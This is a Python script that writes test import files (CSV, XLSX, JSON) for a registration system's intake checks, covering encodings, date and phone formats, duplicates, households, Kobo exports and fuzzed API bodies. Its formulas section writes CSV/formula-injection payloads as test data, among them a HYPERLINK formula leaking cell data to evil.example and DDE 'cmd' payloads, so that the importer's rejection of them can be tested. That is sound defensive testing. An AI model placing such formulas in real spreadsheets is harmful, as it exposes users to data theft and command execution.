"""Writes the bad (and good) import files of tests/intake: `python tests/data/bad/make_bad_files.py`.

The files are committed; this script says how each was made, byte for byte.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).parent
FR_HEADER = ["Prénom", "Nom", "Sexe", "Date de naissance", "Nationalité", "Téléphone", "Consentement"]


def csv_text(rows: list[list[str]], sep: str = ";") -> str:
    # As Excel writes it: fields with the separator or quotes are quoted, CRLF line ends.
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def write_xlsx(name: str, rows: list[list[object]], *, formulas: dict[tuple[int, int], str] | None = None,
               dates: dict[tuple[int, int], dt.date] | None = None) -> None:
    workbook = xlsxwriter.Workbook(str(HERE / name), {"strings_to_formulas": False})
    sheet = workbook.add_worksheet("Feuil1")
    date_format = workbook.add_format({"num_format": "dd/mm/yyyy"})
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, (int, float)):
                sheet.write_number(r, c, value)
            else:
                sheet.write_string(r, c, str(value))
    for (r, c), formula in (formulas or {}).items():
        sheet.write_formula(r, c, formula)
    for (r, c), day in (dates or {}).items():
        sheet.write_datetime(r, c, dt.datetime.combine(day, dt.time()), date_format)
    workbook.close()


def main() -> None:
    # Arabic, saved by Excel on an Arabic Windows: Windows-1256, no BOM, semicolons.
    arabic = [["الاسم الشخصي", "اسم العائلة", "الجنس", "تاريخ الميلاد", "الجنسية", "الهاتف", "الموافقة"],
              ["محمد", "العلوي", "ذكر", "12/03/1990", "SYR", "0612345678", "نعم"],
              ["فاطمة", "الزهراء", "أنثى", "1985", "SDN", "+212 6 61 23 45 67", "نعم"]]
    (HERE / "people-windows-1256.csv").write_bytes(csv_text(arabic).encode("cp1256"))
    # French accents, saved by Excel on a French Windows: Latin-1 (the bytes are the same in 1252).
    french = [FR_HEADER,
              ["Aïcha", "Koné", "F", "01/02/1995", "CIV", "06 12 34 56 78", "oui"],
              ["Jérôme", "N'Guessan", "homme", "1988-07-14", "CMR", "00237 6 71 23 45 67", "oui"]]
    (HERE / "people-latin-1.csv").write_bytes(csv_text(french).encode("latin-1"))
    # UTF-8 with a BOM (Excel's "CSV UTF-8"), commas, the template's machine keys as headers.
    keys = [["given_name", "family_name", "sex", "birth_date", "nationality", "phone", "consent_registration"],
            ["Ousmane", "Diallo", "male", "1992", "GIN", "+224 621 23 45 67", "yes"],
            ["Mariam", "Traoré", "female", "03/1999", "MLI", "+223 76 12 34 56", "yes"]]
    (HERE / "people-utf8-bom.csv").write_bytes(codecs.BOM_UTF8 + csv_text(keys, ",").encode())
    # Excel's "Unicode text": UTF-16 with its BOM, tabs.
    (HERE / "people-utf16.txt").write_bytes(csv_text(french, "\t").encode("utf-16"))
    # Required columns missing (no given name, no sex): the file is refused as a whole.
    (HERE / "columns-missing.csv").write_text(csv_text([["Nom", "Téléphone"], ["Koné", "0612345678"]]),
                                              encoding="utf-8")
    # Renamed (English synonyms) and extra columns.
    write_xlsx("columns-renamed-extra.xlsx", [
        ["First name", "Surname", "Gender", "DOB", "Country", "Mobile", "Consent", "Remarks", "Shoe size"],
        ["Grace", "Mbala", "F", "1990-05-04", "COD", "0661234567", "yes", "met at the station", 41],
    ])
    # Every date form: text dd/mm/yyyy and yyyy-mm-dd, the year alone (as a number and as text),
    # an Excel serial number in a General cell, a true date cell, month/year; then bad ones.
    write_xlsx("dates.xlsx", [
        ["external_id", "given_name", "sex", "birth_date", "consent_registration"],
        ["d1", "Awa", "F", "12/03/1990", "oui"],
        ["d2", "Binta", "F", "1990-03-12", "oui"],
        ["d3", "Coumba", "F", 1987, "oui"],
        ["d4", "Dior", "F", "1987", "oui"],
        ["d5", "Estelle", "F", 32944, "oui"],
        ["d6", "Fanta", "F", None, "oui"],
        ["d7", "Gnima", "F", "06/2001", "oui"],
        ["d8", "Hawa", "F", "31/02/1990", "oui"],
        ["d9", "Issa", "M", "12/03/2090", "oui"],
    ], dates={(6, 3): dt.date(1993, 8, 21)})
    (HERE / "dates-serial.csv").write_text(csv_text([
        ["external_id", "given_name", "sex", "birth_date", "consent_registration"],
        ["s1", "Awa", "F", "32944", "oui"], ["s2", "Binta", "F", "1990", "oui"]]), encoding="utf-8")
    # Phone numbers in every local and international form (and two that are not numbers).
    phones = ["0612345678", "06 12 34 56 78", "06-12-34-56-78", "06.12.34.56.78", "+212612345678",
              "+212 6 12 34 56 78", "00212612345678", "212612345678", "612345678", "(+212) 6 12 34 56 78",
              "+212 (0)6 12 34 56 78", "0522 12 34 56", "+221 77 123 45 67", "00221771234567",
              "221771234567", "+33 6 12 34 56 78", "12345", "appeler le voisin"]
    rows = [["external_id", "given_name", "sex", "phone", "consent_registration"]]
    rows += [[f"p{n}", "Awa", "F", phone, "oui"] for n, phone in enumerate(phones, start=1)]
    (HERE / "phones.csv").write_text(csv_text(rows), encoding="utf-8")
    # Phones that a spreadsheet turned into numbers (leading 0 and + lost).
    write_xlsx("phones-as-numbers.xlsx", [
        ["external_id", "given_name", "sex", "phone", "consent_registration"],
        ["n1", "Awa", "F", 612345678, "oui"], ["n2", "Binta", "F", 212612345678, "oui"],
        ["n3", "Coumba", "F", 221771234567, "oui"]])
    # Formulas: never evaluated, the rows rejected, neutralised in the rejected-rows file.
    write_xlsx("formulas.xlsx", [
        ["external_id", "given_name", "family_name", "sex", "phone", "consent_registration"],
        ["f1", "Awa", "Diallo", "F", "0612345678", "oui"],
        ["f2", None, "Sow", "F", "0612345679", "oui"],
        ["f3", "Binta", None, "F", None, "oui"],
    ], formulas={(2, 1): '=HYPERLINK("http://evil.example/?leak="&C2,"Awa")',
                 (3, 2): "=cmd|' /C calc'!A0", (3, 4): "=1+1"})
    (HERE / "formulas.csv").write_text(csv_text([
        ["external_id", "given_name", "family_name", "sex", "phone", "consent_registration"],
        ["c1", '=HYPERLINK("http://evil.example/","x")', "Diallo", "F", "", "oui"],
        ["c2", "Awa", "@SUM(1+1)*cmd|' /C calc'!A0", "F", "", "oui"],
        ["c3", "Binta", "-2+3", "F", "", "oui"],
        ["c4", "Coumba", "Sow", "F", "+212612345678", "oui"]], ","), encoding="utf-8")
    # Empty: no bytes at all; and a header with no row.
    (HERE / "empty.csv").write_bytes(b"")
    (HERE / "empty.xlsx").write_bytes(b"")
    (HERE / "header-only.csv").write_text(csv_text([FR_HEADER]), encoding="utf-8")
    # Not a spreadsheet, renamed .xlsx: a PDF, and a zip that is not a workbook.
    (HERE / "not-a-spreadsheet.xlsx").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >>\nendobj\n")
    import zipfile

    with zipfile.ZipFile(HERE / "zip-not-a-workbook.xlsx", "w") as archive:
        archive.writestr("readme.txt", "holiday photos")
    # Duplicated rows: the same person twice, and one reference used for two people.
    (HERE / "duplicates.csv").write_text(csv_text([
        ["external_id", "given_name", "family_name", "sex", "birth_date", "consent_registration"],
        ["", "Awa", "Diallo", "F", "12/03/1990", "oui"],
        ["", "Awa", "Diallo", "F", "12/03/1990", "oui"],
        ["r1", "Binta", "Sow", "F", "1991", "oui"],
        ["r1", "Binta", "Sow", "F", "1991", "oui"],
        ["r2", "Coumba", "Ba", "F", "1992", "oui"],
        ["r2", "Moussa", "Ba", "M", "1960", "oui"]]), encoding="utf-8")
    # Households: two complete ones and one without a head.
    (HERE / "households.csv").write_text(csv_text([
        ["external_id", "given_name", "family_name", "sex", "birth_date", "consent_registration",
         "household", "relationship"],
        ["h1", "Moussa", "Ba", "M", "1980", "oui", "M1", "chef de ménage"],
        ["h2", "Aminata", "Ba", "F", "1985", "oui", "M1", "spouse"],
        ["h3", "Issa", "Ba", "M", "2015", "oui", "M1", "child"],
        ["h4", "Fatou", "Ndiaye", "F", "1990", "oui", "M2", "head"],
        ["h5", "Ali", "Kane", "M", "1999", "oui", "M3", "child"]]), encoding="utf-8")
    # Kobo's JSON export: group paths, meta/instanceID, select_multiple separated by spaces.
    submissions = [
        {"_id": 101, "_uuid": "0b6f7a4e-1111-4c1e-9a55-3f7d1b1a0001", "start": "2026-11-02T09:12:00.000+01:00",
         "person/given_name": "Khadija", "person/family_name": "Benali", "person/sex": "female",
         "person/birth_precision": "exact", "person/birth_date": "1994-06-30", "person/nationality": "DZA",
         "person/phone": "0661234567", "person/vulnerabilities": "pregnant-lactating single-parent",
         "consent/consent_registration": "yes", "consent/consent_follow_up": "no",
         "consent/consent_date": "2026-11-02",
         "meta/instanceID": "uuid:0b6f7a4e-1111-4c1e-9a55-3f7d1b1a0001", "_submission_time": "2026-11-02T09:20:11"},
        {"_id": 102, "_uuid": "0b6f7a4e-2222-4c1e-9a55-3f7d1b1a0002",
         "person/given_name": "Yaw", "person/family_name": "Mensah", "person/sex": "male",
         "person/birth_precision": "age", "person/approximate_age": "34", "person/nationality": "GHA",
         "consent/consent_registration": "yes",
         "meta/instanceID": "uuid:0b6f7a4e-2222-4c1e-9a55-3f7d1b1a0002"},
        {"_id": 103, "_uuid": "0b6f7a4e-3333-4c1e-9a55-3f7d1b1a0003",
         "person/given_name": "", "person/sex": "female", "consent/consent_registration": "yes",
         "meta/instanceID": "uuid:0b6f7a4e-3333-4c1e-9a55-3f7d1b1a0003"},
    ]
    (HERE / "kobo-export.json").write_text(json.dumps(submissions, ensure_ascii=False, indent=1), encoding="utf-8")
    # Kobo's XLSX export (XML names, group paths, the bare _uuid).
    write_xlsx("kobo-export.xlsx", [
        ["start", "end", "person/given_name", "person/family_name", "person/sex", "person/birth_precision",
         "person/birth_date", "person/nationality", "person/phone", "person/vulnerabilities",
         "consent/consent_registration", "consent/consent_follow_up", "consent/consent_date", "_id", "_uuid",
         "_submission_time", "_validation_status", "_index"],
        ["2026-11-02T09:12:00", "2026-11-02T09:19:00", "Khadija", "Benali", "female", "exact", "1994-06-30",
         "DZA", "0661234567", "pregnant-lactating single-parent", "yes", "no", "2026-11-02", 101,
         "0b6f7a4e-1111-4c1e-9a55-3f7d1b1a0001", "2026-11-02T09:20:11", "", 1],
    ])

    # Over the size limit the corpus test sets (1 KB): refused before a row is read.
    (HERE / "over-the-size-limit.csv").write_text(
        "given_name;sex;consent_registration\n" + "Awa;F;oui\n" * 200, encoding="utf-8")
    # API bodies found by fuzzing (tests/test_api_fuzz.py): request and body, sent as is.
    api_bodies = {
        "api-sync-distribution-a-list.json": {
            "method": "POST", "path": "/api/v1/assistance/deliveries/sync/", "role": "agent_a",
            "body": {"deliveries": [{"uuid": "5f0c8e2a-3b7d-4c55-9a1e-2d6f0b9c1a11", "type": "food-kit",
                                     "person": "X", "delivered_on": "2021-03-15",
                                     "distribution": [1, 2], "warehouse": {"id": 1}}]}},
        "api-sync-deliveries-not-a-list.json": {
            "method": "POST", "path": "/api/v1/assistance/deliveries/sync/", "role": "agent_a",
            "body": {"deliveries": {"uuid": "5f0c8e2a-3b7d-4c55-9a1e-2d6f0b9c1a11"}}},
        "api-redeem-without-code.json": {
            "method": "POST", "path": "/api/v1/vouchers/redeem/", "role": "vendor",
            "headers": {"Idempotency-Key": "till-9-0001"}, "body": {"amount": "12.50"}},
        "api-person-birth-year-text.json": {
            "method": "POST", "path": "/api/v1/people/", "role": "coord_a",
            "body": {"given_name": "Awa", "sex": "female", "birth_year": "l'an dernier",
                     "consents": [{"purpose": "registration", "legal_basis": "consent"}]}},
    }
    for name, request in api_bodies.items():
        (HERE / name).write_text(json.dumps(request, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
